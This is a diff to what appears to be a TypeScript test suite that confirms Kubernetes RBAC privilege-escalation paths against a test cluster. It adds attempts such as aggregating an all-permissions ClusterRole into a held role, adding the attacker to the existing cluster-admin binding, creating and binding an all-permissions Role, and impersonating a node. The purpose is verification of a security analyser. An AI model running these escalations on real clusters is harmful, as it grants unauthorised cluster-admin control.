@@ -267,8 +267,10 @@ async function createsByName({ attacker, uses: [, { verb }] }: Use, object: any)
 async function bindsItself({ attacker }: Use, verb: string, binding: any): Promise<boolean> {
   const { name } = binding.metadata;
   const path = await pathOf(binding, name);
-  const before = verb === 'create' ? undefined : await create({ ...binding, subjects: [{ apiGroup: RBAC, kind: 'User', name: 'bystander' }] });
-  const { status } = await send(verb, { ...before ?? binding, subjects: binding.subjects }, { subjects: binding.subjects }, path, attacker);
+  const before = verb === 'create' ? undefined : name === 'cluster-admin' ? (await client.request('GET', path)).body
+    : await create({ ...binding, subjects: [{ apiGroup: RBAC, kind: 'User', name: 'bystander' }] });
+  const subjects = [...before?.subjects ?? [], ...binding.subjects];
+  const { status } = await send(verb, { ...before ?? binding, subjects }, { subjects }, path, attacker);
   return status < 300;
 }
 
@@ -476,6 +478,17 @@ async function escalates({ attacker, uses: [{ verb }] }: Use, kind: string, name
   return sent.status === 200 && eventually(() => mayDoEverything(attacker.credentials, namespace));
 }
 
+/** A ClusterRole with every permission that is added to one which the attacker holds. */
+async function addsToItsRole(attacker: Attacker): Promise<boolean> {
+  const name = freshName('aggregated');
+  const added = { apiVersion: `${RBAC}/v1`, kind: 'ClusterRole', metadata: { name: freshName('added'), labels: { [name]: 'true' } }, rules: [EVERYTHING] };
+  const aggregationRule = { clusterRoleSelectors: [{ matchLabels: added.metadata.labels }] };
+  await create({ apiVersion: `${RBAC}/v1`, kind: 'ClusterRole', metadata: { name }, aggregationRule, rules: [] });
+  await create(bindingOf('ClusterRoleBinding', freshName('bound'), name, [subjectOf(attacker)]));
+  const { status } = await attacker.request('POST', await pathOf(added), { body: added });
+  return status === 201 && eventually(() => mayDoEverything(attacker.credentials));
+}
+
 const bindsTreasureReader = (kind: string): EdgeAttempt => ({
   name: () => 'treasure-reader',
   run: async use => await bindsItself(use, use.uses[1].verb, bindingOf(kind, freshName('bound'), use.name, [subjectOf(use.attacker)])) && eventually(() => reads(use.attacker.credentials)),
@@ -559,6 +572,7 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
     run: ({ attacker, uses: [first] }) => mayDoEverything({ ...attacker.credentials, ...impersonated(impersonatedName(first), 'system:masters') }),
   },
   'impersonate-groups to nodes in the cluster': { run: ({ attacker }) => reads({ ...attacker.credentials, ...AS_NODE }) },
+  'impersonate-groups to node by the name of a user in the cluster': { name: () => AS_NODE.headers!['Impersonate-User'], run: ({ attacker }) => reads({ ...attacker.credentials, ...AS_NODE }) },
   'impersonate-service-accounts to accounts': { run: ({ attacker }) => reads({ ...attacker.credentials, ...impersonated(`system:serviceaccount:${VICTIM}:${PRIVILEGED}`) }) },
   'impersonate-service-accounts to accounts by the name of a account': {
     name: () => PRIVILEGED, run: ({ attacker }) => reads({ ...attacker.credentials, ...impersonated(`system:serviceaccount:${VICTIM}:${PRIVILEGED}`) }),
@@ -594,7 +608,7 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
       && eventually(() => mayDoEverything(use.attacker.credentials, VICTIM)),
   },
   'bind-roles to cluster-admin in the cluster': {
-    run: async use => await bindsItself(use, use.uses[0].verb, bindingOf('ClusterRoleBinding', freshName('bound'), 'cluster-admin', [subjectOf(use.attacker)]))
+    run: async use => await bindsItself(use, use.uses[0].verb, bindingOf('ClusterRoleBinding', use.uses[0].name ?? freshName('bound'), 'cluster-admin', [subjectOf(use.attacker)]))
       && eventually(() => mayDoEverything(use.attacker.credentials)),
   },
   'bind-roles to administrator by the name of a new-object': {
@@ -633,10 +647,21 @@ export const EDGE_ATTEMPTS: { readonly [title: string]: EdgeAttempt } = {
         && eventually(() => mayDoEverything(attacker.credentials, VICTIM));
     },
   },
+  'write-and-bind-roles to administrator by the name of a new-object': {
+    name: fresh('own'),
+    run: async use => {
+      const { attacker, name, uses: [, , { verb }] } = use;
+      const role = { apiVersion: `${RBAC}/v1`, kind: 'Role', metadata: { name, namespace: VICTIM }, rules: [EVERYTHING] };
+      const { status } = await attacker.request('POST', await pathOf(role), { body: role });
+      return await bindsItself(use, verb, bindingOf('RoleBinding', freshName('bound'), name, [subjectOf(attacker)], 'Role')) && status === 201
+        && eventually(() => mayDoEverything(attacker.credentials, VICTIM));
+    },
+  },
   'escalate-roles to administrator': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'Role', use.name, VICTIM) },
   'escalate-roles to administrator by the name of a held-role': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'Role', use.name, VICTIM) },
   'escalate-roles to cluster-admin in the cluster': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'ClusterRole', use.name) },
   'escalate-roles to cluster-admin by the name of a held-role in the cluster': { name: fresh('own'), roleName: name => name, run: use => escalates(use, 'ClusterRole', use.name) },
+  'aggregate-roles to cluster-admin in the cluster': { needsControllers: true, run: ({ attacker }) => addsToItsRole(attacker) },
   'approve-client-certificates to cluster-admin in the cluster': {
     needsControllers: true,
     name: fresh('csr'),
